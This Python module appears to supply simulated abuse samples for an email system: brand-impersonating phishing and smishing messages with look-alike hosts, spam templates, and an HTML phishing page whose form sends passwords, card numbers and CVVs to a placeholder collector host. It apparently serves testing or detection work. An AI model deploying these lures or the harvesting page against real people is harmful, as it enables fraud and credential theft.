"""
What abusers of the simulated world write. Texts are our own; hosts are look-alikes under `.example`, owned by nobody.

`{first}`, `{company}`, `{link}` and `{number}` are filled in.
"""

import msgspec

from goodsend.simulation.mail import Letter, letter


class Lure(msgspec.Struct, frozen=True):
    """A phishing mail: the brand it borrows, the look-alike host its link leads to, and the address it shows."""

    brand: str
    from_name: str
    host: str
    letter: Letter


LURES: tuple[Lure, ...] = (
    Lure(
        "DHL",
        "DHL Express",
        "dhl-parcel.example",
        letter(
            "en",
            "DHL: your parcel {number} could not be delivered",
            """
            Dear customer,

            We tried to deliver your parcel {number} today, but a small customs fee has not been paid.

            Please verify your account and confirm your payment details within 24 hours, or the parcel will be returned.
            """,
            "Confirm delivery",
            "{link}",
            shown="https://www.dhl.com/track?id={number}",
        ),
    ),
    Lure(
        "PayPal",
        "PayPal Service",
        "paypa1-secure.example",
        letter(
            "en",
            "Urgent: your PayPal account has been limited",
            """
            Dear customer,

            We noticed unusual activity in your account. Your account has been suspended until you verify your identity.

            Log in and confirm your password and card number immediately to avoid permanent closure.
            """,
            "Verify your account",
            "{link}",
            shown="https://www.paypal.com/signin",
            hidden="meeting notes gardening weather recipe holiday bicycle",
        ),
    ),
    Lure(
        "Netflix",
        "Netflix",
        "netflix-billing.example",
        letter(
            "es",
            "Netflix: su cuenta ha sido suspendida",
            """
            Estimado cliente:

            No hemos podido cobrar su última cuota. Su cuenta será suspendida en 24 horas.

            Actualice sus datos de pago y verifique su cuenta de inmediato para no perder el servicio.
            """,
            "Verificar mi cuenta",
            "{link}",
            shown="https://www.netflix.com/youraccount",
        ),
    ),
    Lure(
        "Microsoft",
        "Microsoft account team",
        "rnicrosoft-login.example",
        letter(
            "en",
            "Action required: your mailbox is almost full",
            """
            Hello,

            Your Microsoft mailbox has reached its limit and incoming messages will be rejected within 24 hours.

            Sign in to verify your password and keep the same storage.
            """,
            "Keep my password",
            "{link}",
            shown="https://login.microsoftonline.com/",
        ),
    ),
)

SMISHING: tuple[tuple[str, str, str], ...] = (
    (
        "USPS",
        "usps-redelivery.example",
        "USPS: your parcel is on hold because of an unpaid fee of $1.99. Pay now to reschedule: {link}",
    ),
    (
        "EVRi",
        "evri-parcel.example",
        "Evri: we missed you today. Your parcel will be returned. Book redelivery and pay the fee: {link}",
    ),
    ("DHL", "dhl-zoll.example", "DHL: Ihr Paket wartet auf die Zollgebühr von 1,99 EUR. Jetzt bezahlen: {link}"),
)
"""Sender id, host, text."""

COLD: tuple[Letter, ...] = (
    letter(
        "en",
        "Quick question for {company}",
        """
        Hi {first},

        I saw your company in a business directory and wanted to introduce our 2026 lead packages: 14 million verified
        contacts by industry and job title.

        Order before Friday and get the whole east coast for half the price. Special prices for bulk buyers.
        """,
        "See the price list",
        "{link}",
    ),
    letter(
        "en",
        "Solar panels at no cost for {company}?",
        """
        Hello,

        Business owners in your area no longer pay for electricity. You have been selected for a free survey.

        This offer ends tonight. Do not miss it.
        """,
        "Claim your survey",
        "{link}",
    ),
)

SNOWSHOE: tuple[Letter, ...] = (
    letter(
        "en",
        "{first}, your walk-in bath estimate",
        """
        Hello {first},

        Homeowners near you are saving on walk-in baths. Compare prices from local fitters in one minute.

        Limited slots this week.
        """,
        "Compare prices",
        "{link}",
    ),
    letter(
        "en",
        "Your estimate for a walk-in bath, {first}",
        """
        Hi {first},

        People near you save on walk-in baths. One minute is enough to compare prices from fitters nearby.

        Only a few slots are left this week.
        """,
        "Compare now",
        "{link}",
    ),
)

VERTICAL: tuple[Letter, ...] = (
    letter(
        "en",
        "Cheap viagra and cialis, no prescription needed",
        """
        Dear friend,

        Our online pharmacy sends viagra, cialis and xanax without prescription, discreet packaging, worldwide.

        Order today and get ten pills for free. Pay with crypto for a further discount.
        """,
        "Order without prescription",
        "{link}",
    ),
    letter(
        "en",
        "Casino bonus: 200 free spins are waiting",
        """
        Hello winner,

        Our online casino gives you 200 free spins and a 300 % deposit bonus. No verification, instant payouts.

        Bet today, the jackpot has never been higher.
        """,
        "Play now",
        "{link}",
    ),
)

RELAY_NAMES: tuple[str, ...] = (
    "You won 5000 EUR claim here https://{host}/{number}",
    "Anna wants to meet you http://{host}/a{number}",
    "Bitcoin transfer waiting www.{host}/b{number}",
    "URGENT confirm withdrawal https://{host}/w{number}",
)

PHISHING_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{brand} - Sign in to your account</title></head>
<body>
<div class="box"><h1>{brand}</h1>
<p>Your session has expired. Sign in to verify your account and confirm your card details.</p>
<form method="post" action="https://{collector}/save.php">
<input type="email" name="login" placeholder="Email">
<input type="password" name="password" placeholder="Password">
<input type="text" name="cardnumber" autocomplete="cc-number" placeholder="Card number">
<input type="text" name="cvv" autocomplete="cc-csc" placeholder="CVV">
<button>Sign in</button>
</form>
<p><a href="https://{host}/help">Help</a></p></div>
<script>document.title = atob("U2lnbiBpbg==");</script>
</body></html>
"""

VENDOR_FILES = (
    "USA_business_owners_2026_verified.csv",
    "14M_B2B_contacts_part3.csv",
    "email_list_final_CLEANED(2).csv",
)
VENDOR_COLUMNS = [
    "email",
    "first_name",
    "last_name",
    "job_title",
    "company",
    "sic_code",
    "employees",
    "revenue",
    "phone",
]
